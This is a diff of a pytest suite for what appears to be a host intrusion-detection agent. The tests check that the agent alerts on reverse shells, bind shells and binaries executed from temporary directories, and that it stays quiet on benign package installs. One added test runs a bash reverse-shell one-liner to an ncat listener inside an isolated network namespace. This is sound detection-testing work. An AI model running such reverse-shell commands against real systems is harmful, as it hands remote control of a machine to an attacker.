@@ -14,35 +14,32 @@ import json
 import os
 import secrets
 import shutil
-import signal
 import subprocess
 import sys
 import time
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
 
 import pytest
-import yaml
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
 from conftest import REPO, AgentProcess, base_config, deep_merge, free_port
 
+from tests.host.attack_lab import (
+    ATTACKER,
+    LOW,
+    RULE_IDS,
+    VICTIM,
+    Procs,
+    alerts_of,
+    first_seen,
+    need,
+    wait_alert,
+    wait_port,
+    wait_relay,
+)
+
 pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (namespaces, audit)")
-ATTACKER, VICTIM = "198.18.0.1", "198.18.0.2"
-LOW = 2  # event.severity of a low alert (agent/alerts.py LEVELS)
-
-
-def _rule_ids() -> dict[str, str]:
-    ids: dict[str, str] = {}
-    for path in (REPO / "rules").rglob("*.yml"):
-        for doc in yaml.safe_load_all(path.read_text()):
-            if isinstance(doc, dict) and doc.get("name") and doc.get("id"):
-                ids[doc["name"]] = doc["id"]
-    return ids
-
-
-RULE_IDS = _rule_ids()
 
 
 @pytest.fixture(scope="module")
@@ -72,107 +69,6 @@ def agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentProcess]:
         with contextlib.suppress(Exception):
             proc.stop()
         proc.kill()
-
-
-@pytest.fixture
-def netns() -> Iterator[str]:
-    if shutil.which("ip") is None:
-        pytest.skip("needs iproute2")
-    name = f"vdt-atk-{os.getpid() % 100000}{secrets.token_hex(2)}"
-    subprocess.run(["ip", "netns", "add", name], check=True, timeout=20)
-    try:
-        for cmd in (["link", "set", "lo", "up"],
-                    ["addr", "add", f"{ATTACKER}/32", "dev", "lo"],
-                    ["addr", "add", f"{VICTIM}/32", "dev", "lo"]):
-            subprocess.run(["ip", "-n", name, *cmd], check=True, timeout=20)
-        yield name
-    finally:
-        subprocess.run(["ip", "netns", "del", name], check=False, timeout=20)
-
-
-class Procs:
-    """Processes started by a test, each in its own process group, stopped by PID."""
-
-    def __init__(self) -> None:
-        self.started: list[subprocess.Popen[bytes]] = []
-
-    def spawn(self, *argv: str, ns: str | None = None, **kw: Any) -> subprocess.Popen[bytes]:
-        cmd = ["ip", "netns", "exec", ns, *argv] if ns else list(argv)
-        kw.setdefault("stdin", subprocess.DEVNULL)
-        kw.setdefault("stdout", subprocess.DEVNULL)
-        kw.setdefault("stderr", subprocess.DEVNULL)
-        proc = subprocess.Popen(cmd, start_new_session=True, **kw)
-        self.started.append(proc)
-        return proc
-
-    def stop(self) -> None:
-        for proc in reversed(self.started):
-            if proc.poll() is None:
-                with contextlib.suppress(ProcessLookupError):
-                    os.killpg(proc.pid, signal.SIGKILL)
-            with contextlib.suppress(subprocess.TimeoutExpired):
-                proc.wait(5)
-
-
-@pytest.fixture
-def procs() -> Iterator[Procs]:
-    p = Procs()
-    try:
-        yield p
-    finally:
-        p.stop()
-
-
-def alerts_of(agent: AgentProcess, name: str, since: float = 0.0) -> list[dict[str, Any]]:
-    """Alerts of a rule first seen at or after ``since`` (less 5 ms: kernel audit times are
-    truncated to the millisecond)."""
-    since -= 0.005
-    out = []
-    for a in agent.alerts():
-        if a.get("rule", {}).get("id") != RULE_IDS[name]:
-            continue
-        if _first_seen(a) >= since:
-            out.append(a)
-    return out
-
-
-def _first_seen(alert: dict[str, Any]) -> float:
-    from datetime import datetime  # noqa: PLC0415
-
-    raw = alert.get("event", {}).get("start") or alert.get("@timestamp", "")
-    try:
-        return datetime.fromisoformat(raw.replace("Z", "+00:00")).timestamp()
-    except ValueError:
-        return 0.0
-
-
-def wait_alert(agent: AgentProcess, name: str, since: float, timeout: float = 15.0) -> None:
-    agent.wait_for(lambda: bool(alerts_of(agent, name, since)), timeout, f"alert {name}")
-
-
-def wait_relay(agent: AgentProcess, relay_pid: int, since: float) -> None:
-    """The shell_socket_relay alert of the shell whose parent is ``relay_pid``."""
-    agent.wait_for(lambda: any(a["vedette"]["group"].get("process.parent.pid") == relay_pid
-                               for a in alerts_of(agent, "shell_socket_relay", since)),
-                   15, f"shell_socket_relay for parent {relay_pid}")
-
-
-def wait_port(ns: str | None, host: str, port: int, timeout: float = 10.0) -> None:
-    deadline = time.monotonic() + timeout
-    cmd = ["ss", "-Hltn", f"src {host}:{port}"]
-    while time.monotonic() < deadline:
-        out = subprocess.run(["ip", "netns", "exec", ns, *cmd] if ns else cmd,
-                             capture_output=True, text=True, timeout=10).stdout
-        if out.strip():
-            return
-        time.sleep(0.05)
-    raise AssertionError(f"nothing listens on {host}:{port}")
-
-
-def need(*tools: str) -> None:
-    missing = [t for t in tools if shutil.which(t) is None]
-    if missing:
-        pytest.skip(f"missing tools: {missing}")
 
 
 # -- shells ---------------------------------------------------------------------------------
@@ -253,6 +149,63 @@ def test_plain_ncat_listener_is_no_bind_shell_but_one_with_exec_is(
     ports = {a["vedette"]["group"].get("server.port")
              for a in alerts_of(agent, "shell_listening", t0)}
     assert with_exec in ports and plain not in ports, ports
+
+
+def test_repeated_reverse_shells_are_each_an_alert_never_suppressed(
+        agent: AgentProcess, netns: str, procs: Procs) -> None:
+    """Three reverse shells of one user in a row: three alerts (issue 17: a cooldown grouped by
+    user dropped the later ones, visible only in vedette_alerts_suppressed_total)."""
+    need("ncat", "bash")
+    t0 = time.time()
+    rid = RULE_IDS["reverse_shell_socket_stdio"]
+    dropped = {"rule": rid, "reason": "dropped"}  # ("coalesced": updates of an open alert)
+    dropped_before = agent.sample("vedette_alerts_suppressed_total", dropped) or 0.0
+    for _ in range(3):
+        port = 4000 + secrets.randbelow(2000)
+        listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
+                               stdin=subprocess.PIPE)
+        wait_port(netns, ATTACKER, port)
+        shell = procs.spawn("bash", "-c", f"bash -i >& /dev/tcp/{ATTACKER}/{port} 0>&1",
+                            ns=netns)
+        seen = len(alerts_of(agent, "reverse_shell_socket_stdio", t0))
+        agent.wait_for(lambda n=seen: len(alerts_of(agent, "reverse_shell_socket_stdio", t0))
+                       > n, 15, "a new reverse-shell alert")
+        assert listener.stdin is not None
+        listener.stdin.close()
+        shell.wait(10)
+    ids = {a["event"]["id"] for a in alerts_of(agent, "reverse_shell_socket_stdio", t0)}
+    assert len(ids) == 3
+    assert (agent.sample("vedette_alerts_suppressed_total", dropped) or 0.0) == dropped_before
+
+
+# -- exec facts of a program that lives a millisecond ---------------------------------------
+
+def test_a_program_run_once_from_tmp_is_seen_with_its_argv(agent: AgentProcess,
+                                                           tmp_path: Path) -> None:
+    """A binary that exits at once (before /proc/PID could be read): its executable and argv
+    come from the kernel's audit records. Dropped (copied) there: high; built there: low."""
+    need("gcc")
+    build = tmp_path / "build"
+    build.mkdir()
+    (build / "quick.c").write_text("int main(void) { return 0; }\n")
+    subprocess.run(["gcc", "-o", str(build / "quick"), str(build / "quick.c")], check=True,
+                   timeout=120, capture_output=True)
+    dropped = tmp_path / "drop" / "quick"
+    dropped.parent.mkdir()
+    shutil.copy(build / "quick", dropped)
+    token = f"--token={secrets.token_hex(4)}"
+    t0 = time.time()
+    subprocess.run([str(dropped), token, "once"], check=True, timeout=10)
+    subprocess.run([str(build / "quick"), token, "built"], check=True, timeout=10)
+
+    def run_once(rule: str, exe: Path, arg: str) -> bool:
+        return any(a["vedette"]["group"].get("process.executable") == str(exe)
+                   and a["vedette"]["matched"].get("process.command_line")
+                   == f"{exe} {token} {arg}" for a in alerts_of(agent, rule, t0))
+    agent.wait_for(lambda: run_once("exec_from_writable_dir", dropped, "once"), 15,
+                   "exec_from_writable_dir with the full command line")
+    agent.wait_for(lambda: run_once("exec_built_in_writable_dir", build / "quick", "built"), 15,
+                   "exec_built_in_writable_dir (low) with the full command line")
 
 
 # -- downloads executed ---------------------------------------------------------------------
@@ -389,7 +342,7 @@ def _tiny_deb(workdir: Path, name: str) -> Path:
 
 def test_benign_admin_and_developer_work_raises_nothing_above_low(
         agent: AgentProcess, tmp_path: Path) -> None:
-    need("gcc", "tar", "dpkg-deb", "dpkg")
+    need("gcc", "tar", "dpkg-deb", "dpkg", "apt-get", "logrotate")
     marker = f"vdtb{os.getpid() % 100000}{secrets.token_hex(2)}"
     work = tmp_path / marker
     build = work / "home" / "dev" / "build"
@@ -404,24 +357,29 @@ def test_benign_admin_and_developer_work_raises_nothing_above_low(
     subprocess.run(["tar", "czf", str(work / "etc-backup.tgz"), "-C", "/", "etc"],
                    check=False, timeout=120, capture_output=True)
     # logrotate of an application log with its own state file
-    if shutil.which("logrotate"):
-        log = work / "app.log"
-        log.write_text("line\n" * 100)
-        conf = work / "logrotate.conf"
-        conf.write_text(f"{log} {{\n  rotate 2\n  compress\n  missingok\n}}\n")
-        subprocess.run(["logrotate", "-f", "-s", str(work / "state"), str(conf)], check=True,
-                       timeout=60)
-    # a package with three systemd units installed and removed
+    log = work / "app.log"
+    log.write_text("line\n" * 100)
+    conf = work / "logrotate.conf"
+    conf.write_text(f"{log} {{\n  rotate 2\n  compress\n  missingok\n}}\n")
+    subprocess.run(["logrotate", "-f", "-s", str(work / "state"), str(conf)], check=True,
+                   timeout=60)
+    assert (work / "app.log.1.gz").exists()
+    # a package with three systemd units installed and removed with apt (a local .deb without
+    # dependencies: nothing is downloaded, no index update)
     name = f"{marker}-pkg"
     deb = _tiny_deb(work, name)
+    apt_env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
     try:
-        subprocess.run(["dpkg", "-i", str(deb)], check=True, capture_output=True, timeout=120)
+        subprocess.run(["apt-get", "install", "-y", "-q", str(deb)],
+                       check=True, capture_output=True, timeout=300, env=apt_env)
         time.sleep(2)
     finally:
+        subprocess.run(["apt-get", "purge", "-y", "-q", name], check=False,
+                       capture_output=True, timeout=300, env=apt_env)
         subprocess.run(["dpkg", "--purge", name], check=False, capture_output=True,
                        timeout=120)
     time.sleep(3)
-    ours = [a for a in agent.alerts() if _first_seen(a) >= t0
+    ours = [a for a in agent.alerts() if first_seen(a) >= t0
             and a.get("event", {}).get("severity", 0) > LOW
             and (marker in json.dumps(a) or "/usr/lib/systemd/system/" in json.dumps(a))]
     assert ours == [], [(a["rule"]["name"], a["vedette"]["group"]) for a in ours]
